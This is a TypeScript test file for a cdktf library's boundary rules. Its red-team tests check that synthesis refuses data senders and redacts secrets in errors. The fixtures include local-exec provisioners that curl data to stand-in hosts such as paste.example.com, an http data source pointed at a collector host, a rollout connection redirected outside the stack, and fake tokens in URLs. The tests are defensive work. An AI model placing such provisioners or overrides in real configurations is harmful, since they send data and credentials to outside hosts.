import { TerraformHclModule, TerraformResource, Testing } from 'cdktf';
import { Construct } from 'constructs';
import { BoundarySuppressions } from '../../lib';
import { boundaryDocument } from '../../lib/boundary/boundary-document';
import { checkedStack, machine, policy, synthErrors } from './fixtures';

// Red team (audit boundary3): cdktf's escape hatches sent data where no boundary rule looked, and
// synth passed with boundary.md silent about them.

/** A raw resource of any type, as `TerraformResource` escape hatches write them. */
function raw(scope: Construct, id: string, type: string, attributes: Record<string, unknown> = {}): TerraformResource {
  const r = new TerraformResource(scope, id, { terraformResourceType: type, terraformGeneratorMetadata: { providerName: type.split('_')[0] } });
  for (const [key, value] of Object.entries(attributes)) r.addOverride(key, value);
  return r;
}

describe('red team: senders the other rules cannot read fail synth', () => {
  test('a local-exec provisioner added to the machine\'s own rollout', () => {
    const stack = checkedStack();
    const m = machine(stack);
    m.rollout!.resource.addOverride('provisioner.5', { 'local-exec': { command: 'curl -d @- https://paste.example.com < /dev/null' } });
    expect(synthErrors(stack)).toMatch(/Boundary-UncheckedSender: production\/App\/Rollout\/Resource\.provisioner: 'local-exec' is not allowed: .* Fix: run it on the machine through a bundle part/);
  });

  test('a terraform_data with a local-exec provisioner', () => {
    const stack = checkedStack();
    machine(stack);
    raw(stack, 'Notify', 'terraform_data', { provisioner: [{ 'local-exec': { command: 'curl https://hooks.example.com' } }] });
    expect(synthErrors(stack)).toMatch(/production\/Notify\.provisioner: 'local-exec' is not allowed/);
  });

  test('the rollout\'s connection pointed at a host outside the stack (bundle and secrets uploaded there)', () => {
    const stack = checkedStack();
    const m = machine(stack);
    m.rollout!.resource.addOverride('connection.host', 'build.example.com');
    expect(synthErrors(stack)).toMatch(/production\/App\/Rollout\/Resource\.connection\.host: 'build\.example\.com' is not allowed: the (file|remote-exec) provisioner connects to a host that is not a server of this stack/);
  });

  test('an http data source, another cloud\'s resource and a module', () => {
    const stack = checkedStack();
    machine(stack);
    stack.addOverride('data.http.leak', { url: 'https://collector.example.com/?d=1' });
    raw(stack, 'Bucket', 'aws_s3_bucket', { bucket: 'acme-exports' });
    new TerraformHclModule(stack, 'Exports', { source: 'terraform-aws-modules/s3-bucket/aws' });
    const errors = synthErrors(stack);
    expect(errors).toMatch(/data\.http\.leak\.type: 'data http' is not allowed: it makes a request of its own/);
    expect(errors).toMatch(/production\/Bucket\.type: 'aws_s3_bucket' is not allowed: it is a resource of the aws provider/);
    expect(errors).toMatch(/production\/Exports\.source: 'terraform-aws-modules\/s3-bucket\/aws' is not allowed: a module's resources are not in this configuration/);
  });

  // Audit (secrets11): the refusals printed a module's source and a connection's host as written, so a Git token in
  // a module's URL (git::https://oauth2:<token>@…, the way a private module is often fetched) went into the CI log.
  test('a module whose source carries a token, and a connection host with a password, are refused without echoing them', () => {
    const stack = checkedStack();
    const m = machine(stack);
    const token = 'glpat-Xq7RkT2mVb9LsW4nPz8D';
    new TerraformHclModule(stack, 'Private', { source: `git::https://oauth2:${token}@gitlab.example.com/acme/infra.git?ref=v1` });
    m.rollout!.resource.addOverride('connection.host', 'https://deploy:Hunter2Hunter2@build.example.com');
    const errors = synthErrors(stack);
    expect(errors).toMatch(/production\/Private\.source: 'git::https:\/\/<redacted>@gitlab\.example\.com\/acme\/infra\.git\?ref=v1' is not allowed/);
    expect(errors).toMatch(/connection\.host: 'https:\/\/<redacted>@build\.example\.com' is not allowed/);
    expect(errors).not.toContain(token);
    expect(errors).not.toContain('Hunter2Hunter2');
  });

  test('a suppressed exception passes and is listed in boundary.md; the library\'s own rollout passes unsuppressed', () => {
    const stack = checkedStack();
    machine(stack);
    const r = raw(stack, 'Notify', 'terraform_data', { provisioner: [{ 'local-exec': { command: 'echo deployed' } }] });
    BoundarySuppressions.add(r, [{ id: 'Boundary-UncheckedSender', reason: 'Prints a line in the CI log, sends nothing anywhere' }]);
    expect(synthErrors(stack)).toBe('');
    Testing.synth(stack, true);
    expect(boundaryDocument({ title: 'acme', policy, stacks: [stack] })).toMatch(/\| Boundary-UncheckedSender \| production\/Notify \| Prints a line in the CI log/);
  });
});
